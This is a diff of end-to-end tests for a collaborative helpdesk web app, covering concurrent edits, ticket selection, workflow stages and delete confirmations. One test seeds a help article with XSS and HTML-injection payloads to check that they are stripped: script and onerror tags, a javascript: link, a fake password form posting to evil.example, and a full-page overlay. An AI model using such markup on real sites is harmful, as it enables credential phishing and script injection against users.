@@ -108,6 +108,32 @@ describe('the page, by several people at once', { skip }, () => {
     }
   });
 
+  test('beginning to edit again does not hide what others have changed since', async () => {
+    const ben = await site.openPage('/inbox/open/4', { as: 'Ben' });
+    await ben.getByRole('button', { name: 'Edit' }).click();
+    await ben.getByLabel('Title').fill('CSV of Ben');
+    await changeAs(site, 'Cleo', '%CSV%', { title: 'CSV of Cleo' });
+    await ben.getByText('renamed it to “CSV of Cleo”').waitFor();
+    await ben.getByRole('button', { name: 'Edit' }).click();
+    await ben.getByRole('button', { name: 'Save' }).click();
+    const dialog = ben.getByRole('dialog', { name: 'Cleo has changed this too' });
+    await dialog.getByText('CSV of Ben').waitFor();
+    await dialog.getByRole('button', { name: 'Discard my change' }).click();
+    await ben.getByRole('heading', { name: 'CSV of Cleo' }).waitFor();
+  });
+
+  test('tickets that have left the list are not selected any more', async () => {
+    const cleo = await site.openPage('/inbox/open', { as: 'Cleo' });
+    await cleo.getByLabel('Select #4').check();
+    await cleo.getByText('1 selected').waitFor();
+    await cleo
+      .getByRole('navigation', { name: 'Views' })
+      .getByRole('link', { name: /Urgent/ })
+      .click();
+    await cleo.getByRole('heading', { name: 'Urgent' }).waitFor();
+    await cleo.getByText('1 selected').waitFor({ state: 'hidden' });
+  });
+
   test('several tickets are changed in one call, or none is', async () => {
     const cleo = await site.openPage('/inbox/unassigned', { as: 'Cleo' });
     await cleo.getByLabel('Select #6').check();
@@ -160,7 +186,9 @@ describe('the page, by several people at once', { skip }, () => {
        select $1, id, 'Hostile article', $2, '{}', '{}', 'public', 'published' from helpdesk.profiles where name = 'Nora'`,
       [
         org,
-        '**bold** <img src=x onerror="window.attacked = true"><script>window.attacked = true</script>[link](javascript:alert)',
+        '**bold** <img src=x onerror="window.attacked = true"><script>window.attacked = true</script>[link](javascript:alert)' +
+          '<form action="https://evil.example"><input type="password"><button popovertarget="person-menu">Sign in</button></form>' +
+          '<style>body { display: none }</style><div class="toasts" id="root" style="position: fixed; inset: 0">over all</div>',
       ],
     );
     const stranger = await site.openPage(`/help/${org}`);
@@ -169,6 +197,7 @@ describe('the page, by several people at once', { skip }, () => {
     await stranger.locator('strong', { hasText: 'bold' }).waitFor();
     assert.equal(await stranger.evaluate(() => window.attacked), undefined);
     assert.equal(await stranger.locator('.prose [onerror], .prose script, .prose a[href^="javascript"]').count(), 0);
+    assert.equal(await stranger.locator('.prose').locator('form, button, style, [style], [class], [id]').count(), 0);
     assert.equal(await stranger.getByText('Runbook').count(), 0);
   });
 
@@ -247,6 +276,21 @@ describe('the page, by several people at once', { skip }, () => {
     await stage.waitFor();
     assert.deepEqual(await stage.locator('option').allTextContents(), ['New', 'In progress', 'Waiting on customer']);
 
+    // The stage that Hank has chosen cannot be reached any more when he sends his answer.
+    await gina.getByLabel('From Waiting on customer to In progress').selectOption('Nobody');
+    await site.waitUntilMoves('Globex', 'Waiting on customer', ['Closed', 'New', 'Resolved']);
+    await hank.getByLabel('Stage after sending').selectOption({ label: 'Then move to In progress' });
+    await hank.getByLabel('Reply', { exact: true }).fill('We wait for you.');
+    const stageId = await site.db.value(
+      `select s.id from helpdesk.workflow_stages s join helpdesk.organizations o on o.id = s.org_id
+        where o.name = 'Globex' and s.name = 'Waiting on customer'`,
+    );
+    const title = await hank.locator('.ticket-head h2').textContent();
+    await changeAs(site, 'Gina', title, { stageId });
+    await hank.getByText('moved it from New to Waiting on customer').waitFor();
+    await hank.getByRole('button', { name: 'Send reply' }).click();
+    await hank.locator('.message', { hasText: 'We wait for you.' }).waitFor();
+
     await gina.getByRole('button', { name: 'Allow every move' }).click();
     await gina.getByText('The staff may move a ticket from every stage to every other.').waitFor();
     await site.waitUntilMoves('Globex', 'New', []);
@@ -257,7 +301,14 @@ describe('the page, by several people at once', { skip }, () => {
     await ada.getByLabel('Role of Ada').selectOption('org_agent');
     await ada.getByText('An organization keeps at least one admin. Make somebody else admin first.').waitFor();
     await ada.getByRole('link', { name: 'Workflow' }).click();
-    await ada.getByRole('button', { name: 'Delete Waiting on customer' }).click();
+    const remove = ada.getByRole('button', { name: 'Delete Waiting on customer' });
+    const asked = new Promise((resolve) => {
+      ada.once('dialog', (dialog) => resolve(dialog.message()) ?? dialog.dismiss());
+    });
+    await remove.click();
+    assert.equal(await asked, 'Delete Waiting on customer and the moves from and to it?');
+    ada.once('dialog', (dialog) => dialog.accept());
+    await remove.click();
     await ada.getByText('Tickets are or were in this stage. Retire it instead of deleting it.').waitFor();
     await ada.getByLabel('Name of Closed').fill('resolved');
     await ada.getByLabel('Name of Closed').press('Enter');
